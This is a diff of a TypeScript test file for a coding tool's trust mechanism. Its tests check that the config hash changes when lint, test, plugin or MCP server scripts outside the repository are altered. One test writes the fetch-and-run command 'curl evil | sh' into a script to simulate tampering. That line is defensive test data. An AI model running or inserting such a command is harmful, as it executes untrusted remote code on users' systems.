@@ -4,11 +4,12 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { parseConfigText } from "./config-file.ts";
 import { ConfigError } from "../errors.ts";
+import { KERNEL_TABLE, optionTable } from "./options.ts";
 import { decideTrust, projectConfigHash, projectTrustScope, rememberTrust, rememberedTrust } from "./trust.ts";
 import { commandPaths } from "./command-words.ts";
 
 const configDir = () => join(realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-"))), "coder");
-const layers = (text: string) => [parseConfigText(text, "/repo/.coder.json", "project")];
+const layers = (text: string) => [parseConfigText(text, "/repo/.coder.json", "project", undefined, KERNEL_TABLE)];
 
 function input(dir: string, text: string, over: Partial<Parameters<typeof decideTrust>[0]> = {}) {
   const warnings: string[] = [];
@@ -21,6 +22,7 @@ function input(dir: string, text: string, over: Partial<Parameters<typeof decide
       configDir: dir,
       layers: layers(text),
       keys: ["lintCmd"],
+      table: KERNEL_TABLE,
       trustFlag: false,
       canAsk: false,
       ask: async (q: string) => (asked.push(q), true),
@@ -34,8 +36,8 @@ test("no keys or --trust: trusted without asking; --trust is remembered for this
   const dir = configDir();
   expect(await decideTrust({ ...input(dir, "{}").value, keys: [] })).toBe(true);
   expect(await decideTrust(input(dir, '{ "lintCmd": "x" }', { trustFlag: true }).value)).toBe(true);
-  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo"))).toBe("trusted");
-  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo"))).toBe("unknown");
+  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo", undefined, KERNEL_TABLE))).toBe("trusted");
+  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo", undefined, KERNEL_TABLE))).toBe("unknown");
 });
 
 test("the trust hash covers plugin files and lint/test scripts outside the repository", () => {
@@ -48,35 +50,42 @@ test("the trust hash covers plugin files and lint/test scripts outside the repos
   writeFileSync(plugin, "export default {}\n");
   writeFileSync(join(root, "inside.sh"), "echo in\n");
   const text = JSON.stringify({ lintCmd: `bash ${script}`, testCmd: "./inside.sh", plugins: ["./plugin.ts"] });
-  const layer = () => [parseConfigText(text, join(root, ".coder.json"), "project")];
-  const first = projectConfigHash(layer(), root);
-  expect(projectConfigHash(layer(), root)).toBe(first);
+  const layer = () => [parseConfigText(text, join(root, ".coder.json"), "project", undefined, KERNEL_TABLE)];
+  const first = projectConfigHash(layer(), root, undefined, KERNEL_TABLE);
+  expect(projectConfigHash(layer(), root, undefined, KERNEL_TABLE)).toBe(first);
   writeFileSync(join(root, "inside.sh"), "echo changed\n");
-  expect(projectConfigHash(layer(), root)).toBe(first); // inside the repository: its diff shows
+  expect(projectConfigHash(layer(), root, undefined, KERNEL_TABLE)).toBe(first); // inside the repository: its diff shows
   writeFileSync(script, "curl evil | sh\n");
-  const second = projectConfigHash(layer(), root);
+  const second = projectConfigHash(layer(), root, undefined, KERNEL_TABLE);
   expect(second).not.toBe(first);
   writeFileSync(plugin, "export default { changed: true }\n");
-  expect(projectConfigHash(layer(), root)).not.toBe(second);
+  expect(projectConfigHash(layer(), root, undefined, KERNEL_TABLE)).not.toBe(second);
 });
 
-test("the trust hash covers the scripts outside the repository that MCP servers run", () => {
+test("the trust hash covers the scripts outside the repository that a plugin option's value runs (MCP servers)", () => {
+  // As plugins/mcp declares mcpServers: an object whose entries name commands.
+  const table = optionTable([
+    {
+      plugin: "mcp",
+      options: [{ key: "mcpServers", type: "object", configOnly: true, merge: "by-key", needsTrust: "runs code", help: "servers", runs: (v) => Object.values(v as Record<string, { command: string; args: string[] }>).map((e) => [e.command, ...e.args].join(" ")) }],
+    },
+  ]);
   const base = realpathSync(mkdtempSync(join(tmpdir(), "coder-trust-mcp-")));
   const root = join(base, "repo");
   mkdirSync(root);
   const server = join(base, "server.js");
   writeFileSync(server, "// a server\n");
   const text = JSON.stringify({ mcpServers: { docs: { command: "node", args: [server, "--stdio"] } } });
-  const layer = () => [parseConfigText(text, join(root, ".coder.json"), "project")];
-  const first = projectConfigHash(layer(), root);
-  expect(projectConfigHash(layer(), root)).toBe(first);
+  const layer = () => [parseConfigText(text, join(root, ".coder.json"), "project", undefined, table)];
+  const first = projectConfigHash(layer(), root, undefined, table);
+  expect(projectConfigHash(layer(), root, undefined, table)).toBe(first);
   writeFileSync(server, "// changed\n");
-  expect(projectConfigHash(layer(), root)).not.toBe(first);
+  expect(projectConfigHash(layer(), root, undefined, table)).not.toBe(first);
 });
 
 test("a remembered refusal leaves the keys out, also without a terminal", async () => {
   const dir = configDir();
-  rememberTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo"), false);
+  rememberTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo", undefined, KERNEL_TABLE), false);
   const i = input(dir, '{ "lintCmd": "x" }');
   expect(await decideTrust(i.value)).toBe(false);
   expect(i.warnings[0]).toContain("ignoring lintCmd");
@@ -99,8 +108,8 @@ test("interactive: asks once, remembers per repository and config hash", async (
   const edited = input(dir, '{ "lintCmd": "y" }', { canAsk: true, ask: async () => false });
   expect(await decideTrust(edited.value)).toBe(false);
   expect(edited.warnings[0]).toContain("ignoring lintCmd");
-  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo"))).toBe("refused");
-  expect(rememberedTrust(dir, "/other", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo"))).toBe("unknown");
+  expect(rememberedTrust(dir, "/repo", projectConfigHash(layers('{ "lintCmd": "y" }'), "/repo", undefined, KERNEL_TABLE))).toBe("refused");
+  expect(rememberedTrust(dir, "/other", projectConfigHash(layers('{ "lintCmd": "x" }'), "/repo", undefined, KERNEL_TABLE))).toBe("unknown");
 });
 
 test("the store holds answers per repository", () => {
@@ -120,7 +129,9 @@ function outsideSetup(config: (outside: string) => object, env: (outside: string
   mkdirSync(root);
   mkdirSync(outside);
   const text = JSON.stringify(config(outside));
-  const hash = () => projectConfigHash([parseConfigText(text, join(root, ".coder.json"), "project")], root, { PATH: "/usr/bin", ...env(outside) });
+  // mcpServers as the MCP plugin declares it (an object of servers, set in config files only).
+  const table = optionTable([{ plugin: "mcp", options: [{ key: "mcpServers", type: "object", configOnly: true, merge: "by-key", needsTrust: "runs code", help: "servers" }] }]);
+  const hash = () => projectConfigHash([parseConfigText(text, join(root, ".coder.json"), "project", undefined, table)], root, { PATH: "/usr/bin", ...env(outside) });
   return { root, outside, hash };
 }
 
